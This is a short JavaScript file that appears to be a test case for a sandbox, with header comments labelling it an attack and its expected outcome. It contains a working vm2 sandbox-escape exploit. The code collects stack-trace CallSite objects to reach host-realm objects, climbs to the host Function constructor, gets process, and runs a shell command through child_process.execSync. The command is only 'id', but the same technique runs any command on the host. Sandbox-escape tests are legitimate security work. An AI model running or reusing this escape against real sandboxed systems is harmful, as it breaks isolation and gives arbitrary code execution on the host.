// attack: vm2's CallSite escape: getThis of a frame of the host and its constructors
// outcome: error process
// control: outside
Error.prepareStackTrace = (_, sites) => sites;
const reached = [];
for (const site of new Error().stack) {
  for (const method of ['getThis', 'getFunction']) {
    try {
      const object = site[method]();
      if (object) reached.push(object);
    } catch {}
  }
}
Error.prepareStackTrace = undefined;
reached.push(globalThis);
const outer = reached[0].constructor.constructor;
outer('return process')().getBuiltinModule('child_process').execSync('id');
